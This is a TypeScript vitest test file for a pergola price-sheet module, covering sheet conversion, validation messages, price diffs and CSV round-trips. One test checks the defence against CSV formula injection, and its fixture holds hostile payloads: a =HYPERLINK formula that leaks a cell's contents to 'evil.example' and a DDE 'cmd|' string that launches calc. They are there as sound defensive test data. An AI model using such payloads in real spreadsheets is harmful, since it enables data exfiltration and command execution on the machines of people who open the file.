import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { PriceTable } from '../../../../engine';
import {
  checkPriceTable,
  checkSheet,
  diffPrices,
  rowsToSheet,
  sheetOf,
  sheetToCsv,
  tableOf,
  type PriceSheet,
} from './price-sheet';

const fixedAttached = JSON.parse(
  readFileSync('definitions/prices/pergola/pergola-fixed-attached.json', 'utf8'),
) as PriceTable;

const small: PriceTable = {
  kind: 'price-table',
  unit: 'feet',
  length: { roundUpTo: 'even' },
  width: { roundUpTo: 'even' },
  prices: { '8x8': 100, '8x10': 110, '10x8': 120, '10x10': 130 },
};

describe('a price table as a sheet', () => {
  it('has one row per length and one column per width, and gives the same table back', () => {
    const sheet = sheetOf(fixedAttached);
    expect(sheet.lengths).toEqual(['8', '10', '12', '14', '16', '18', '20']);
    expect(sheet.widths[0]).toBe('8');
    expect(sheet.cells[2][3]).toBe(String(fixedAttached.prices['12x14']));
    expect(tableOf(fixedAttached, sheet)).toEqual(fixedAttached);
    expect(checkSheet(sheet, fixedAttached)).toEqual([]);
    expect(checkPriceTable(fixedAttached)).toEqual([]);
  });

  it('names each problem at its row: a price that is not a number, an empty cell, a duplicate or unreachable size, a missing size', () => {
    const sheet = sheetOf(small);
    sheet.cells[0][1] = '11O';
    sheet.cells[1][0] = '';
    expect(checkSheet(sheet, small)).toEqual([
      { row: 0, column: 1, message: '8 × 10: “11O” is not a number of dollars' },
      { row: 1, column: 0, message: '10 × 8: no price (a 10 × 8 order would show “No Price Available”)' },
    ]);
    const twice = {
      ...sheet,
      lengths: ['8', '8'],
      cells: [
        ['1', '2'],
        ['3', '4'],
      ],
    };
    expect(checkSheet(twice, small)).toEqual([
      { row: 1, message: 'Length 8 ft appears twice (rows 1 and 2): keep one' },
    ]);
    const gap = { lengths: ['8', '12'], widths: ['8'], cells: [['1'], ['2']] };
    expect(checkSheet(gap, small)).toEqual([
      { row: 1, message: 'No length 10 ft between 8 and 12: those sizes would show “No Price Available”' },
    ]);
    const odd = { lengths: ['9'], widths: ['8'], cells: [['1']] };
    expect(checkSheet(odd, small)[0].message).toBe(
      'Length 9 ft is never looked up: lengths are rounded up to an even number',
    );
  });

  it('keeps what was typed in the file, so the checks refuse it there too', () => {
    const sheet = sheetOf(small);
    sheet.cells[0][0] = 'abc';
    const table = tableOf(small, sheet);
    expect(table.prices['8x8']).toBe('abc');
    expect(checkPriceTable(table)).toEqual(['8 × 8: “abc” is not a number of dollars']);
  });

  it('says which rows a draft adds, removes and changes', () => {
    expect(diffPrices({ '8x8': 1, '8x10': 2, '10x8': 3 }, { '8x8': 1, '8x10': 5, '12x8': 4 })).toEqual({
      added: [{ key: '12x8', price: 4 }],
      removed: [{ key: '10x8', price: 3 }],
      changed: [{ key: '8x10', from: 2, to: 5 }],
    });
  });
});

describe('CSV', () => {
  /** The exported file as the import reads it (the editor's importCsv: papaparse, then rowsToSheet). */
  const reimport = (csv: string) => rowsToSheet(Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data);

  it('round-trips the exported layout through papaparse', () => {
    const csv = sheetToCsv(sheetOf(fixedAttached), 'feet');
    expect(csv.split('\r\n')[0]).toMatch(/^length \\ width \(feet\),8,10,12/);
    const imported = reimport(csv);
    expect(imported.problems).toEqual([]);
    expect(tableOf(fixedAttached, imported.sheet!)).toEqual(fixedAttached);
  });

  it('writes numbers as numbers, a negative or decimal price too, so a re-import reads the same prices', () => {
    const odd: PriceTable = { ...small, prices: { '8x8': -5, '8x10': 1234.5, '10x8': 0, '10x10': 0.25 } };
    const csv = sheetToCsv(sheetOf(odd), 'feet');
    expect(csv).toBe('length \\ width (feet),8,10\r\n8,-5,1234.5\r\n10,0,0.25\r\n');
    expect(tableOf(odd, reimport(csv).sheet!)).toEqual(odd);
    // As typed in the grid, spaces and all: the same prices as the sheet gives the file.
    const typed: PriceSheet = {
      lengths: ['8 ', '10'],
      widths: ['8', ' 10'],
      cells: [
        [' -5', '110 '],
        ['120', '130'],
      ],
    };
    expect(tableOf(small, reimport(sheetToCsv(typed, 'feet')).sheet!)).toEqual(tableOf(small, typed));
  });

  it('neutralises formula cells (a price or a size typed as =HYPERLINK(...)) as the order history export does', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?p="&B2,"Click")';
    const sheet: PriceSheet = {
      lengths: ['8', '@SUM(A1)'],
      widths: ['8', '+10'],
      cells: [
        [hyperlink, "-5+cmd|' /C calc'!A0"],
        ['\t=1+1', ' =2+2'],
      ],
    };
    const csv = sheetToCsv(sheet, 'inches');
    expect(csv.split('\r\n')).toEqual([
      "length \\ width (inches),8,'+10",
      `8,"'=HYPERLINK(""http://evil.example/?p=""&B2,""Click"")",'-5+cmd|' /C calc'!A0`,
      "'@SUM(A1),'\t=1+1,' =2+2",
      '',
    ]);
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data.flat();
    const isPlainNumber = (cell: string) => /^\s*-?\d+(?:\.\d+)?\s*$/.test(cell);
    for (const cell of cells)
      expect(isPlainNumber(cell) || !/^(?:[\t\r]|\s*[=+\-@])/.test(cell), JSON.stringify(cell)).toBe(true);
    // The import reads the neutralised text as it was written: not a price, refused at its cell as before the export.
    const imported = reimport(csv);
    expect(imported.sheet?.cells[0][0]).toBe(`'${hyperlink}`);
    expect(checkSheet(imported.sheet!, { ...small, unit: 'inches' }).map((problem) => problem.message)).toContain(
      `8 × 8: “'${hyperlink}” is not a number of dollars`,
    );
  });

  it('reads one price a line too, and refuses a size that appears twice, naming the lines', () => {
    const long = rowsToSheet([
      ['length', 'width', 'price'],
      ['8', '8', '100'],
      ['8', '10', '110'],
    ]);
    expect(long.sheet).toEqual({ lengths: ['8'], widths: ['8', '10'], cells: [['100', '110']] });
    expect(
      rowsToSheet([
        ['length', 'width', 'price'],
        ['8', '8', '1'],
        ['8', '8', '2'],
      ]).problems,
    ).toEqual(['Line 3: 8 × 8 appears twice (lines 2 and 3)']);
    expect(
      rowsToSheet([
        ['x', '8', '10'],
        ['12', '1', '2'],
        ['12', '3', '4'],
      ]).problems,
    ).toEqual(['Line 3: length 12 appears twice (lines 2 and 3)']);
    expect(
      rowsToSheet([
        ['x', '8', '8'],
        ['12', '1', '2'],
      ]).problems,
    ).toEqual(['Line 1: width 8 appears twice (columns 2 and 3)']);
  });
});
